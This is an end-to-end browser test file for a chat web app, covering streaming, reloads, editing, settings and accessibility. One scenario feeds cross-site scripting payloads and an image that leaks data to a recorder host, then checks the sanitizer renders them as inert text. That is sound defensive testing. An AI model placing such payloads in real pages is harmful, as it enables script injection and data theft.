/**
 * Browser tests of the built web app against a real Open Chat server and the OpenRouter
 * simulator. Run with `npm run e2e` (web/dist must be built first).
 */
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { after, before, describe, test } from "node:test";
import type { Browser, BrowserContext, Locator, Page } from "playwright-core";
import {
  type AppServer,
  assertPrerequisites,
  keepScratchDir,
  lastUserText,
  launchBrowser,
  MOBILE,
  newPage,
  type Recorder,
  requestedModel,
  type Simulator,
  saveFailureScreenshots,
  scratchDir,
  sleep,
  startAppServer,
  startCuttableLink,
  startRecorder,
  startSimulator,
  stopAll,
  waitFor,
} from "./harness.ts";
import {
  answers,
  attachFiles,
  composer,
  contentOf,
  conversationAction,
  conversationId,
  drawnPng,
  focusedLabel,
  lastAnswer,
  messages,
  pickModel,
  send,
  sidebar,
  textOf,
  waitForStatus,
} from "./ui.ts";

const TEST_TIMEOUT = 45_000;

let simulator: Simulator;
let app: AppServer;
let browser: Browser;
const contexts: BrowserContext[] = [];
let failed = false;

before(async () => {
  assertPrerequisites();
  [simulator, browser] = await Promise.all([startSimulator(), launchBrowser()]);
  app = await startAppServer({ simulator });
});

after(async () => {
  await Promise.allSettled(contexts.map((context) => context.close()));
  await browser?.close().catch(() => undefined);
  if (failed) {
    keepScratchDir();
    console.log(`server logs and databases kept in ${scratchDir()}`);
  }
  await stopAll();
});

let pagesOfTest: Page[] = [];
let diagnostic: (message: string) => void = () => undefined;

/** A test with a time bound; on failure, screenshots of its pages go to artifacts/e2e-failures. */
function scenario(name: string, body: () => Promise<void>, options: { todo?: string } = {}): void {
  test(name, { timeout: TEST_TIMEOUT, todo: options.todo }, async (t) => {
    pagesOfTest = [];
    diagnostic = (message) => t.diagnostic(message);
    try {
      await body();
    } catch (error) {
      if (!options.todo) {
        failed = true;
        await saveFailureScreenshots(name, pagesOfTest);
      }
      throw error;
    }
  });
}

async function open(
  server: AppServer = app,
  options: Parameters<typeof newPage>[2] = {},
): Promise<Page> {
  const { context, page } = await newPage(browser, server, options);
  contexts.push(context);
  pagesOfTest.push(page);
  page.on("pageerror", (error) => console.log(`page error: ${error.message}`));
  page.on("console", (message) => {
    if (message.type() === "error") console.log(`console error: ${message.text()}`);
  });
  return page;
}

/** The completion requests whose last user message contains `marker`. */
async function requestsFor(marker: string) {
  return (await simulator.requests()).filter((request) => lastUserText(request).includes(marker));
}

/**
 * Steps `message` to its first of two versions and back, asserting that each switch used stays
 * where it was on screen; `centred` scrolls it to the middle of the view first.
 */
async function switchesKeepTheirPlace(
  page: Page,
  message: Locator,
  { centred }: { centred: boolean },
): Promise<void> {
  const steps = [
    ["Previous version", "1 / 2"],
    ["Next version", "2 / 2"],
  ] as const;
  for (const [name, position] of steps) {
    const control = message.getByRole("button", { name });
    if (centred) await control.evaluate((node) => node.scrollIntoView({ block: "center" }));
    const top = () => control.evaluate((node) => node.getBoundingClientRect().top);
    const before = await top();
    await control.click();
    await waitFor(position, async () => {
      return (await message.getByTestId("version-position").textContent()) === position;
    });
    await page.evaluate(
      () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
    );
    await sleep(200);
    const after = await top();
    assert.ok(Math.abs(after - before) <= 1, `${name} moved from ${before}px to ${after}px`);
  }
}

describe("Open Chat in the browser", { timeout: 240_000 }, () => {
  scenario("an answer streams in several steps, then shows its usage", async () => {
    const page = await open();
    await page.goto("/");
    await send(page, "Streaming steps check [[sim tokens=80 tps=20 ttft=0.2]]");
    await conversationId(page);
    const answer = lastAnswer(page);
    await answer.waitFor({ state: "attached", timeout: 10_000 });

    // Sample the answer's text length in the page every 50 ms until it is finished.
    const samples = await page.evaluate(async () => {
      const lengths: number[] = [];
      const deadline = performance.now() + 15_000;
      while (performance.now() < deadline) {
        const all = document.querySelectorAll<HTMLElement>(
          '[data-testid="message"][data-role="assistant"]',
        );
        const last = all[all.length - 1];
        const content = last?.querySelector('[data-testid="message-content"]');
        lengths.push(content?.textContent?.length ?? 0);
        if (last?.dataset.status === "complete") break;
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return lengths;
    });
    const distinct = [...new Set(samples.filter((length) => length > 0))];
    const final = samples[samples.length - 1];
    assert.ok(
      distinct.length >= 3,
      `expected the text to grow in at least 3 steps, saw lengths ${distinct.join(", ")}`,
    );
    for (let i = 1; i < distinct.length; i++) {
      assert.ok(distinct[i] > distinct[i - 1], `lengths went down: ${distinct.join(", ")}`);
    }
    diagnostic(
      `${distinct.length} text lengths seen while streaming: ${distinct.slice(0, 5).join(", ")} … ${final}`,
    );
    assert.ok(
      distinct[0] < final / 2,
      `the first text seen (${distinct[0]}) was near the end (${final})`,
    );

    assert.equal(await waitForStatus(answer, ["complete"]), "complete");
    const usage = answer.locator('[data-testid="usage"]');
    await usage.waitFor({ state: "visible" });
    const usageText = (await usage.textContent()) ?? "";
    assert.match(usageText, /\d/, `usage line has no figures: "${usageText}"`);
  });

  scenario("a conversation survives a reload; back and forward move between two", async () => {
    const page = await open();
    await page.goto("/");
    await send(page, "Reload check alpha [[sim tokens=12 tps=0]]");
    const first = await conversationId(page);
    await waitForStatus(lastAnswer(page), ["complete"]);
    const firstAnswer = await textOf(lastAnswer(page));
    assert.ok(firstAnswer.length > 0, "the first answer is empty");

    await page.reload();
    assert.equal(await conversationId(page), first);
    await sidebar(page)
      .getByRole("link", { name: /^Reload check alpha/ })
      .waitFor();
    await waitForStatus(lastAnswer(page), ["complete"]);
    assert.equal(await messages(page).count(), 2);
    assert.match((await messages(page).first().textContent()) ?? "", /Reload check alpha/);
    assert.equal(await textOf(lastAnswer(page)), firstAnswer);

    await page
      .getByRole("link", { name: "New chat" })
      .or(page.getByRole("button", { name: "New chat" }))
      .first()
      .click();
    await waitFor("the empty state", async () => (await messages(page).count()) === 0);
    await send(page, "Reload check beta [[sim tokens=12 tps=0]]");
    const second = await waitFor("a second conversation id", async () => {
      const id = await conversationId(page);
      return id !== first ? id : null;
    });
    await waitForStatus(lastAnswer(page), ["complete"]);

    await sidebar(page)
      .getByRole("link", { name: /^Reload check alpha/ })
      .click();
    await waitFor("the first conversation", async () => (await conversationId(page)) === first);
    await page.getByText("Reload check alpha").first().waitFor();

    await page.goBack();
    await waitFor(
      "back to the second conversation",
      async () => (await conversationId(page)) === second,
    );
    await messages(page).filter({ hasText: "Reload check beta" }).first().waitFor();
    assert.equal(await messages(page).filter({ hasText: "Reload check alpha" }).count(), 0);

    await page.goForward();
    await waitFor(
      "forward to the first conversation",
      async () => (await conversationId(page)) === first,
    );
    await messages(page).filter({ hasText: "Reload check alpha" }).first().waitFor();
    assert.equal(await messages(page).filter({ hasText: "Reload check beta" }).count(), 0);
  });

  scenario("a conversation can be renamed and deleted from the sidebar", async () => {
    const keep = await app.api<{ id: string }>("POST", "/conversations", {
      title: "Rename me e2e",
    });
    const doomed = await app.api<{ id: string }>("POST", "/conversations", {
      title: "Delete me e2e",
    });
    const page = await open();
    await page.goto("/");

    await conversationAction(page, "Rename me e2e", "Rename");
    const input = page.getByRole("textbox", { name: "Conversation title" });
    await input.fill("Renamed by e2e");
    await input.press("Enter");
    await sidebar(page).getByRole("link", { name: "Renamed by e2e", exact: true }).waitFor();
    await waitFor("the new title to be stored", async () => {
      return (await app.conversation(keep.id)).title === "Renamed by e2e";
    });

    await conversationAction(page, "Delete me e2e", "Delete");
    const dialog = page.getByRole("dialog");
    if (await dialog.isVisible()) {
      await dialog.getByRole("button", { name: "Delete", exact: true }).click();
    }
    await sidebar(page)
      .getByRole("link", { name: "Delete me e2e", exact: true })
      .waitFor({ state: "detached" });
    // With an undo toast the deletion happens when the toast goes; wait for the server.
    await waitFor(
      "the conversation to be deleted on the server",
      async () => (await fetch(`${app.origin}/conversations/${doomed.id}`)).status === 404,
      15_000,
    );

    await page.reload();
    await sidebar(page).getByRole("link", { name: "Renamed by e2e", exact: true }).waitFor();
    assert.equal(
      await sidebar(page).getByRole("link", { name: "Delete me e2e", exact: true }).count(),
      0,
    );
    assert.equal(
      await sidebar(page).getByRole("link", { name: "Rename me e2e", exact: true }).count(),
      0,
    );
  });

  scenario("a model picked by search is the one the next request uses", async () => {
    const page = await open();
    await page.goto("/");
    await page.getByRole("button", { name: "Model", exact: true }).click();
    await page.getByRole("combobox", { name: "Search models" }).fill("codestral 2508");
    const option = page.getByRole("option").filter({ hasText: "mistralai/codestral-2508" });
    await option.first().click();
    await waitFor(
      "the picker to show the chosen model",
      async () =>
        ((await page.getByRole("button", { name: "Model", exact: true }).getAttribute("title")) ??
          "") === "mistralai/codestral-2508" ||
        /Codestral 2508/.test(
          (await page.getByRole("button", { name: "Model", exact: true }).textContent()) ?? "",
        ),
    );

    const marker = "Model pick check";
    await send(page, `${marker} [[sim tokens=10 tps=0]]`);
    await waitForStatus(lastAnswer(page), ["complete"]);
    const sent = await requestsFor(marker);
    assert.equal(sent.length, 1, "expected one completion request");
    assert.equal(requestedModel(sent[0]), "mistralai/codestral-2508");
    const id = await conversationId(page);
    const stored = await app.conversation(id);
    assert.equal(stored.messages.at(-1)?.model, "mistralai/codestral-2508");
  });

  scenario("Stop keeps the partial answer, also after a reload; Esc stops too", async () => {
    const page = await open();
    await page.goto("/");
    await send(page, "Stop button check [[sim tokens=400 tps=20 ttft=0.1]]");
    const id = await conversationId(page);
    const answer = lastAnswer(page);
    await waitFor("some answer text", async () => (await textOf(answer)).length > 30);
    await page.getByRole("button", { name: "Stop generating" }).click();
    assert.equal(await waitForStatus(answer, ["cancelled"]), "cancelled");
    const stopped = await textOf(answer);
    await sleep(600);
    assert.equal(await textOf(answer), stopped, "the text kept growing after Stop");
    await page.getByRole("button", { name: "Send message" }).waitFor();

    const stored = await app.conversation(id);
    const storedAnswer = stored.messages.at(-1);
    assert.equal(storedAnswer?.status, "cancelled");
    assert.ok((storedAnswer?.content.length ?? 0) > 0, "no partial text was stored");
    assert.ok((storedAnswer?.content.length ?? 0) < 1500, "the whole answer was stored");

    await page.reload();
    const reloaded = lastAnswer(page);
    assert.equal(await waitForStatus(reloaded, ["cancelled"]), "cancelled");
    assert.equal(await textOf(reloaded), stopped);

    // Esc stops as well.
    await send(page, "Escape key check [[sim tokens=400 tps=20 ttft=0.1]]");
    const second = lastAnswer(page);
    await waitFor("the second answer's text", async () => {
      return (await answers(page).count()) === 2 && (await textOf(second)).length > 30;
    });
    await page.keyboard.press("Escape");
    assert.equal(await waitForStatus(second, ["cancelled"]), "cancelled");
    await waitFor("the stored answer to be cancelled", async () => {
      return (await app.conversation(id)).messages.at(-1)?.status === "cancelled";
    });
  });

  scenario("an upstream error is shown in place, readable, with Retry", async () => {
    const page = await open();
    await page.goto("/");
    const marker = "Credits error check";
    await send(page, `${marker} [[sim status=402]]`);
    const answer = lastAnswer(page);
    await waitForStatus(answer, ["error"]);
    const alert = answer.getByRole("alert");
    await alert.waitFor({ state: "visible" });
    const text = (await alert.textContent()) ?? "";
    diagnostic(`error shown for HTTP 402: "${text}"`);
    assert.match(text, /credit/i, `the error does not mention credits: "${text}"`);
    assert.doesNotMatch(text, /[{}]|undefined|\[object/, `the error is not readable: "${text}"`);
    assert.equal((await requestsFor(marker)).length, 1);
    // The alert is the explanation alone (what a screen reader announces); Retry is beside it.
    assert.doesNotMatch(text, /Retry/, `the alert also holds the Retry button: "${text}"`);
    assert.equal(await alert.getByRole("button").count(), 0, "a button inside the alert");

    await answer.getByRole("button", { name: "Retry" }).click();
    await waitFor(
      "a second upstream request",
      async () => (await requestsFor(marker)).length === 2,
    );
    await waitForStatus(lastAnswer(page), ["error"]);
    await lastAnswer(page).getByRole("alert").waitFor({ state: "visible" });
    assert.equal(await answers(page).count(), 1, "Retry should replace the failed answer in place");
  });

  scenario("an answer in Hebrew reads right to left, its list and quote too", async () => {
    const page = await open();
    await page.goto("/");
    const text = ["שאלה בעברית [[sim reply=echo tps=0]]", "", "- פריט ראשון", "- פריט שני"];
    await send(page, [...text, "", "> ציטוט", "", "English after"].join("\n"));
    const answer = lastAnswer(page);
    await waitForStatus(answer, ["complete"]);
    // No function declared inside: the page has none of the helpers the test's build adds.
    const laidOut = await contentOf(answer).evaluate((root) => {
      const [list, item, quote, english] = [
        root.querySelector("ul"),
        root.querySelector("li"),
        root.querySelector("blockquote"),
        [...root.querySelectorAll("p")].at(-1),
      ].map((element) => getComputedStyle(element ?? document.createElement("div")));
      return {
        list: list.direction,
        item: item.direction,
        quote: quote.direction,
        english: english.direction,
        // The bullets' room, and the quote's border, are on the side the text starts.
        listPadding: [list.paddingLeft, list.paddingRight],
        quoteBorder: [quote.borderLeftWidth, quote.borderRightWidth],
      };
    });
    assert.deepEqual(
      { ...laidOut, listPadding: laidOut.listPadding[0], quoteBorder: laidOut.quoteBorder[0] },
      {
        list: "rtl",
        item: "rtl",
        quote: "rtl",
        english: "ltr",
        listPadding: "0px",
        quoteBorder: "0px",
      },
      JSON.stringify(laidOut),
    );
    assert.notEqual(laidOut.listPadding[1], "0px");
    assert.notEqual(laidOut.quoteBorder[1], "0px");
    // The question as typed: each of its paragraphs in its own direction.
    const question = page.locator('[data-role="user"] [data-testid="message-content"]').last();
    const typed = await question.evaluate((node) => {
      const style = getComputedStyle(node);
      return [node.getAttribute("dir"), style.unicodeBidi];
    });
    assert.deepEqual(typed, ["auto", "plaintext"]);
  });

  scenario(
    "a table or code block is a Tab stop only if it scrolls sideways; then keys scroll it",
    async () => {
      const page = await open();
      await page.goto("/");
      const columns = Array.from({ length: 12 }, (_, index) => `column ${index} of a wide table`);
      const text = [
        "Tables and code [[sim reply=echo tps=0]]",
        "",
        "| a | b |",
        "|---|---|",
        "| 1 | 2 |",
        "",
        `| ${columns.join(" | ")} |`,
        `|${"---|".repeat(columns.length)}`,
        `| ${columns.map(() => "x").join(" | ")} |`,
        "",
        "```text",
        "short",
        "```",
        "",
        "```text",
        "wide ".repeat(80),
        "```",
      ].join("\n");
      await send(page, text);
      const answer = lastAnswer(page);
      await waitForStatus(answer, ["complete"]);
      const boxes = contentOf(answer).locator(".table-wrap, .code-block pre");
      const stops = await boxes.evaluateAll((all) =>
        all.map((box) => box.getAttribute("tabindex")),
      );
      assert.deepEqual(stops, [null, "0", null, "0"]);
      const wide = boxes.last();
      await wide.focus();
      for (let press = 0; press < 5; press += 1) await page.keyboard.press("ArrowRight");
      await waitFor(
        "the wide code block to scroll",
        async () => (await wide.evaluate((box) => box.scrollLeft)) > 0,
      );
    },
  );

  scenario("a hostile answer renders as text and runs nothing", async () => {
    const recorder: Recorder = await startRecorder();
    const page = await open();
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto("/");
    const hostile = [
      "Hostile markdown check [[sim reply=echo tps=0]]",
      "",
      "<script>window.__pwned=1</script>",
      "",
      '<img src=x onerror="window.__pwned=2">',
      "",
      "[click](javascript:window.__pwned=3)",
      "",
      '<svg onload="window.__pwned=4"></svg>',
      "",
      `![x](${recorder.origin}/leak?q=secret)`,
      "",
      "Bad math: $\\href{javascript:alert(1)}{x}$ and $$\\url{javascript:alert(2)}$$",
      "",
      "[a fine link](https://example.com/docs)",
    ].join("\n");
    await send(page, hostile);
    const answer = lastAnswer(page);
    await waitForStatus(answer, ["complete"]);
    const content = contentOf(answer);
    const text = await textOf(answer);
    assert.match(text, /Hostile markdown check/);
    // The raw HTML is shown as the text it is.
    assert.ok(
      text.includes("<script>window.__pwned=1</script>"),
      `no literal <script> in "${text}"`,
    );
    assert.ok(text.includes('<svg onload="window.__pwned=4">'), `no literal <svg> in "${text}"`);

    const found = await page.evaluate(() => {
      const all = [...document.querySelectorAll("body *")];
      return {
        scripts: document.querySelectorAll("body script").length,
        svgOnload: document.querySelectorAll("svg[onload]").length,
        handlers: all
          .flatMap((element) => [...element.attributes].map((attribute) => attribute.name))
          .filter((name) => name.startsWith("on")),
        javascriptUrls: all.filter((element) =>
          ["href", "src", "xlink:href", "action", "formaction"].some((name) =>
            /^\s*javascript:/i.test(element.getAttribute(name) ?? ""),
          ),
        ).length,
        leakImages: [...document.images].filter((image) => image.src.includes("/leak")).length,
      };
    });
    assert.equal(found.scripts, 0, "a <script> element was rendered");
    assert.equal(found.svgOnload, 0, "an <svg onload> element was rendered");
    assert.deepEqual(found.handlers, [], "elements with inline event handlers were rendered");
    assert.equal(found.javascriptUrls, 0, "a javascript: URL was rendered");
    assert.equal(found.leakImages, 0, "the remote image was put in the page");

    const click = content.getByText("click", { exact: true });
    if ((await click.count()) > 0) {
      await click.first().click();
      await sleep(300);
    }
    assert.equal(new URL(page.url()).origin, app.origin, "clicking the link left the app");
    assert.equal(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned), undefined);
    assert.deepEqual(dialogs, [], "a dialog was opened");

    const links = await content.locator("a[href]").evaluateAll((anchors) =>
      anchors.map((anchor) => ({
        href: anchor.getAttribute("href"),
        rel: anchor.getAttribute("rel"),
      })),
    );
    assert.ok(
      links.some((link) => link.href === "https://example.com/docs"),
      `the fine link is missing: ${JSON.stringify(links)}`,
    );
    for (const link of links) {
      const rel = (link.rel ?? "").split(/\s+/);
      assert.ok(
        rel.includes("noopener") && rel.includes("noreferrer"),
        `link ${link.href} has rel="${link.rel}"`,
      );
    }

    await sleep(700);
    assert.deepEqual(recorder.requests, [], "the image URL was fetched");
  });

  scenario(
    "a reload during a stream shows the whole answer once, from one upstream request",
    async () => {
      const page = await open();
      await page.goto("/");
      const marker = "Reload mid stream check";
      const sentAt = Date.now();
      await send(page, `${marker} [[sim tokens=150 tps=30 ttft=0.1]]`);
      const id = await conversationId(page);
      await lastAnswer(page).waitFor({ state: "attached" });
      await sleep(Math.max(0, sentAt + 1000 - Date.now()));
      const before = (await app.conversation(id)).messages.at(-1);
      assert.equal(before?.role, "assistant", "no answer was being written after 1 s");
      assert.equal(before?.status, "streaming", "the answer finished before the reload");
      const partial = await textOf(lastAnswer(page));
      diagnostic(`reloading with ${partial.length} characters shown`);
      assert.ok(partial.length > 0, "no text was shown in the first second");
      await page.reload();
      const answer = lastAnswer(page);
      await waitForStatus(answer, ["complete"], 20_000);
      await sleep(500);
      assert.equal(await answers(page).count(), 1, "more than one answer is shown");
      const shown = await textOf(answer);

      const stored = await app.conversation(id);
      const storedAnswers = stored.messages.filter((message) => message.role === "assistant");
      assert.equal(storedAnswers.length, 1);
      assert.equal(storedAnswers[0].status, "complete");

      // The same stored answer, rendered by a fresh page, must read exactly the same.
      const fresh = await open();
      await fresh.goto(`/c/${id}`);
      await waitForStatus(lastAnswer(fresh), ["complete"]);
      assert.equal(shown, await textOf(lastAnswer(fresh)));
      // And it is the stored text once: its first and last words appear exactly once.
      const words = (storedAnswers[0].content.match(/[A-Za-z]{3,}/g) ?? []).join(" ");
      const flat = (shown.match(/[A-Za-z]{3,}/g) ?? []).join(" ");
      const opening = words.split(" ").slice(0, 6).join(" ");
      const ending = words.split(" ").slice(-6).join(" ");
      assert.ok(flat.startsWith(opening), `the shown answer does not start with "${opening}"`);
      assert.ok(flat.endsWith(ending), `the shown answer does not end with "${ending}"`);
      assert.equal(flat.split(opening).length - 1, 1, "the opening appears more than once");

      assert.equal((await requestsFor(marker)).length, 1, "the reload started a second generation");
    },
  );

  scenario(
    "a lost connection mid-answer shows Reconnecting, then the whole answer once",
    async () => {
      const link = await startCuttableLink(app);
      const page = await open(link.server);
      await page.goto("/");
      const marker = "Network loss check";
      await send(page, `${marker} [[sim tokens=120 tps=30 ttft=0]]`);
      const id = await conversationId(page);
      const answer = lastAnswer(page);
      await waitFor("text before the cut", async () => (await textOf(answer)).length > 20);
      link.cut(3000);
      await page.getByText("Reconnecting…").waitFor({ timeout: 5000 });
      diagnostic("the page said Reconnecting… while the link was down");
      await waitForStatus(answer, ["complete"], 25_000);
      const stored = (await app.conversation(id)).messages.at(-1);
      assert.equal(stored?.status, "complete");
      const fresh = await open();
      await fresh.goto(`/c/${id}`);
      await waitForStatus(lastAnswer(fresh), ["complete"]);
      assert.equal(await textOf(answer), await textOf(lastAnswer(fresh)));
      assert.equal(await answers(page).count(), 1, "more than one answer is shown");
      assert.equal(
        (await requestsFor(marker)).length,
        1,
        "the reconnect started a second generation",
      );
    },
  );

  scenario("without an API key the app says so, and a message gets a readable error", async () => {
    const keyless = await startAppServer({ simulator, withKey: false });
    const page = await open(keyless);
    await page.goto("/");
    const banner = page.getByRole("alert").filter({ hasText: "OPENROUTER_API_KEY" });
    await banner.first().waitFor({ state: "visible" });

    await send(page, "Hello without a key");
    const error = page
      .locator('[data-testid="message"]')
      .getByRole("alert")
      .or(page.getByRole("alert").filter({ hasNotText: "OPENROUTER_API_KEY" }));
    await error.first().waitFor({ state: "visible", timeout: 15_000 });
    const text = ((await error.first().textContent()) ?? "").trim();
    diagnostic(`error shown without a key: "${text}"`);
    assert.ok(text.length > 10, `the error is too short: "${text}"`);
    assert.match(text, /key|configur/i, `the error does not say what is wrong: "${text}"`);
    assert.doesNotMatch(text, /[{}]|undefined|\[object|Traceback/, `not readable: "${text}"`);
    assert.equal((await requestsFor("Hello without a key")).length, 0, "a request went upstream");
  });

  scenario(
    "on a phone the drawer takes the focus; Ctrl+K opens it on the search, Shift+Esc closes it on the message box",
    async () => {
      const page = await open(app, { viewport: MOBILE });
      await page.goto("/");
      await composer(page).waitFor({ state: "visible" });
      const drawer = () =>
        page.evaluate(() => document.querySelector(".app")?.getAttribute("data-drawer"));

      await page.getByRole("button", { name: "Open sidebar" }).click();
      await waitFor(
        "the open drawer to take the focus",
        async () => (await focusedLabel(page)) === "Close sidebar",
      );
      await page.keyboard.press("Escape");
      await waitFor(
        "the focus back on the button",
        async () => (await focusedLabel(page)) === "Open sidebar",
      );

      await page.keyboard.press("Control+k");
      await waitFor("the drawer open on the search", async () => {
        return (await drawer()) === "open" && (await focusedLabel(page)) === "Search conversations";
      });
      await page.keyboard.type("banana");
      assert.equal(
        await page.getByRole("searchbox", { name: "Search conversations" }).inputValue(),
        "banana",
      );

      await page.keyboard.press("Shift+Escape");
      await waitFor("the drawer closed, on the message box", async () => {
        return (await drawer()) === "closed" && (await focusedLabel(page)) === "Message";
      });
      await page.keyboard.type("typed here");
      assert.equal(await composer(page).inputValue(), "typed here");
    },
  );

  scenario("on a phone the sidebar is a drawer and a message can be sent", async () => {
    await app.api("POST", "/conversations", { title: "Phone drawer e2e" });
    const page = await open(app, { viewport: MOBILE });
    await page.goto("/");
    await composer(page).waitFor({ state: "visible" });
    const link = page.getByRole("link", { name: "Phone drawer e2e", exact: true });
    const onScreen = async () => {
      if (!(await link.isVisible())) return false;
      const box = await link.boundingBox();
      return box !== null && box.x >= 0 && box.x + box.width <= MOBILE.width + 1 && box.width > 0;
    };
    assert.equal(await onScreen(), false, "the sidebar is open on a phone before it is asked for");
    await page.getByRole("button", { name: "Open sidebar" }).click();
    await waitFor("the drawer to open", onScreen);
    await link.click();
    await waitFor("the drawer to close", async () => !(await onScreen()));
    await conversationId(page);

    await send(page, "Phone message check [[sim tokens=20 tps=0]]");
    await waitForStatus(lastAnswer(page), ["complete"]);
    assert.ok((await textOf(lastAnswer(page))).length > 0);
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(overflow <= MOBILE.width, `the page is ${overflow}px wide on a 390px screen`);
  });
  scenario(
    "the system prompt and temperature saved in Conversation settings are sent",
    async () => {
      const page = await open();
      await page.goto("/");
      // Set before the chat exists: its first answer already has them.
      await page.getByRole("button", { name: "Conversation settings" }).click();
      const dialog = page.getByRole("dialog");
      await dialog
        .getByRole("textbox", { name: "System prompt" })
        .fill("Answer like a pirate, e2e.");
      await dialog.getByRole("checkbox", { name: "The model's default" }).uncheck();
      await dialog.getByRole("slider", { name: "Temperature" }).fill("0.4");
      await dialog.getByRole("button", { name: "Save", exact: true }).click();
      await dialog.waitFor({ state: "detached" });
      await send(page, "System prompt check one [[sim tokens=5 tps=0]]");
      const id = await conversationId(page);
      await waitForStatus(lastAnswer(page), ["complete"]);
      const saved = await app.conversation(id);
      assert.equal(saved.system_prompt, "Answer like a pirate, e2e.");
      assert.equal(saved.temperature, 0.4);
      const [first] = await requestsFor("System prompt check one");
      assert.ok(first, "no completion request for the first message");
      assert.equal(first.body?.temperature, 0.4);
      assert.deepEqual(first.body?.messages?.[0], {
        role: "system",
        content: "Answer like a pirate, e2e.",
      });

      // Given back to the model on the stored chat: the next answer goes without it.
      await page.getByRole("button", { name: "Conversation settings" }).click();
      await dialog.getByRole("checkbox", { name: "The model's default" }).check();
      await dialog.getByRole("button", { name: "Save", exact: true }).click();
      await dialog.waitFor({ state: "detached" });
      assert.equal((await app.conversation(id)).temperature, null);

      const marker = "System prompt check two";
      await send(page, `${marker} [[sim tokens=5 tps=0]]`);
      await waitFor("the second answer", async () => (await answers(page).count()) === 2);
      await waitForStatus(lastAnswer(page), ["complete"]);
      const [request] = await requestsFor(marker);
      assert.ok(request, "no completion request for the second message");
      const sent = request.body?.messages ?? [];
      assert.deepEqual(sent[0], { role: "system", content: "Answer like a pirate, e2e." });
      assert.deepEqual(
        sent.map((message) => message.role),
        ["system", "user", "assistant", "user"],
      );
      assert.equal(request.body?.temperature, undefined);
    },
  );

  scenario("Regenerate asks for a new answer in place; Copy copies the answer", async () => {
    const page = await open();
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.goto("/");
    const marker = "Regenerate check";
    await send(page, `${marker} [[sim tokens=12 tps=0]]`);
    const id = await conversationId(page);
    await waitForStatus(lastAnswer(page), ["complete"]);
    const first = (await app.conversation(id)).messages.at(-1);

    await lastAnswer(page).getByRole("button", { name: "Copy", exact: true }).click();
    await waitFor("the answer on the clipboard", async () => {
      const copied = await page.evaluate(() => navigator.clipboard.readText());
      return copied === first?.content;
    });

    await lastAnswer(page).getByRole("button", { name: "Regenerate" }).click();
    await waitFor(
      "a second upstream request",
      async () => (await requestsFor(marker)).length === 2,
    );
    await waitFor("the new answer to be stored", async () => {
      const last = (await app.conversation(id)).messages.at(-1);
      return last?.id !== first?.id && last?.status === "complete";
    });
    await waitForStatus(lastAnswer(page), ["complete"]);
    assert.equal(await answers(page).count(), 1, "the new answer should replace the old one");
    const all = await app.api<{ data: { role: string }[] }>(
      "GET",
      `/conversations/${id}/messages?versions=all`,
    );
    assert.equal(all.data.filter((message) => message.role === "assistant").length, 2);
  });

  scenario("Edit a message: it is answered anew, and what followed leaves the view", async () => {
    const page = await open();
    await page.goto("/");
    await send(page, "Edit alpha [[sim reply=echo]]");
    const id = await conversationId(page);
    await waitForStatus(lastAnswer(page), ["complete"]);
    await send(page, "Edit bravo [[sim reply=echo]]");
    await waitFor("two answers", async () => (await answers(page).count()) === 2);
    await waitForStatus(lastAnswer(page), ["complete"]);
    const questions = page.locator('[data-testid="message"][data-role="user"]');
    const editor = page.getByRole("textbox", { name: "Edit message" });
    const questionTexts = () => contentOf(questions).allTextContents();

    // Esc leaves the message as it was, and asks nothing.
    await questions.first().hover();
    await questions.first().getByRole("button", { name: "Edit message" }).click();
    await editor.fill("Never sent");
    await editor.press("Escape");
    await editor.waitFor({ state: "detached" });
    assert.equal(await textOf(questions.first()), "Edit alpha [[sim reply=echo]]");
    await waitFor("the focus back on the Edit button", () =>
      page.evaluate(() => {
        const focused = document.activeElement;
        return (
          focused?.tagName === "BUTTON" && focused.getAttribute("aria-label") === "Edit message"
        );
      }),
    );

    await questions.first().hover();
    await questions.first().getByRole("button", { name: "Edit message" }).click();
    assert.equal(await focusedLabel(page), "Edit message");
    await editor.fill("Edit charlie [[sim reply=echo]]");
    await editor.press("Enter");
    await waitFor("the answer to the edit", async () => {
      return (
        (await answers(page).count()) === 1 && (await textOf(lastAnswer(page))) === "Edit charlie"
      );
    });
    await waitForStatus(lastAnswer(page), ["complete"]);
    assert.deepEqual(await questionTexts(), ["Edit charlie [[sim reply=echo]]"]);
    assert.equal(await focusedLabel(page), "Message", "the message box has the focus");
    // Named after its first message, the chat takes the edited one's name.
    await sidebar(page)
      .getByRole("link", { name: "Edit charlie [[sim reply=echo]]", exact: true })
      .waitFor();
    assert.equal((await requestsFor("Never sent")).length, 0);
    const asked = await requestsFor("Edit charlie");
    assert.equal(asked.length, 1);
    assert.deepEqual(
      (asked[0].body?.messages ?? []).map((m: { role: string }) => m.role),
      ["user"],
      "the edit of the first message is sent without what followed it",
    );

    const stored = await app.conversation(id);
    assert.deepEqual(
      stored.messages.map((m) => m.content),
      ["Edit charlie [[sim reply=echo]]", "Edit charlie "],
    );
    const all = await app.api<{ data: unknown[] }>(
      "GET",
      `/conversations/${id}/messages?versions=all`,
    );
    assert.equal(all.data.length, 6, "the earlier version and what followed it stay stored");

    // The earlier version is a click away, with the thread that followed it, as a view only.
    const showsVersions = async (versions: string, texts: string[]) =>
      (await questions.first().getByTestId("version-position").textContent()) === versions &&
      JSON.stringify(await questionTexts()) === JSON.stringify(texts);
    for (const reloaded of [false, true]) {
      if (reloaded) {
        await page.reload();
        await waitForStatus(lastAnswer(page), ["complete"]);
      }
      assert.equal(await messages(page).count(), 2);
      await questions.first().hover();
      await questions.first().getByRole("button", { name: "Previous version" }).click();
      await waitFor("the earlier version and what followed it", () =>
        showsVersions("1 / 2", ["Edit alpha [[sim reply=echo]]", "Edit bravo [[sim reply=echo]]"]),
      );
      assert.equal(await textOf(lastAnswer(page)), "Edit bravo");
      assert.equal(await focusedLabel(page), "Previous version", "the focus stays on the switch");
      assert.equal(await page.getByRole("button", { name: "Edit message" }).count(), 0);
      assert.equal(await page.getByRole("button", { name: "Regenerate" }).count(), 0);
      await questions.first().getByRole("button", { name: "Next version" }).click();
      await waitFor("the thread as it now reads", () =>
        showsVersions("2 / 2", ["Edit charlie [[sim reply=echo]]"]),
      );
    }
  });

  scenario(
